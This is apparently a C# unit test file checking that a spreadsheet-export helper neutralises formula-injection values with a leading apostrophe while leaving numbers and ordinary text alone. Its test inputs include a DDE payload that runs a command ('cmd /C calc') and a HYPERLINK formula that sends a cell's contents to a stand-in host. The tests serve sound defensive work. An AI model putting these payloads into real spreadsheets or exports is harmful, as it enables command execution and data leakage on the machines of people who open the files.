using Dakla06.ServiceDefaults.Exports;

namespace Dakla06.UnitTests.Exports;

public sealed class SpreadsheetCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x/?\"&A2,\"x\")")]
    [InlineData("=1+1")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("+84 912 345 678")]
    [InlineData("-")]
    [InlineData("=")]
    public void A_value_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(string value) =>
        Assert.Equal("'" + value, SpreadsheetCell.Neutralise(value));

    [Theory]
    [InlineData("-5")]
    [InlineData("-1.5")]
    [InlineData("-1,5")]
    [InlineData("+84")]
    [InlineData("-1.254.631")]
    [InlineData("-2.5e10")]
    [InlineData("Nguyễn Văn A")]
    [InlineData("a=b")]
    [InlineData("066090000123")]
    [InlineData("")]
    [InlineData(null)]
    public void Numbers_and_ordinary_text_stay_as_they_are(string? value) =>
        Assert.Equal(value, SpreadsheetCell.Neutralise(value));

    [Fact]
    public void A_whole_row_is_neutralised_in_place()
    {
        string?[] row = ["=1", "-3", null, "@x"];
        Assert.Same(row, SpreadsheetCell.NeutraliseAll(row));
        Assert.Equal(["'=1", "-3", null, "'@x"], row);
    }
}
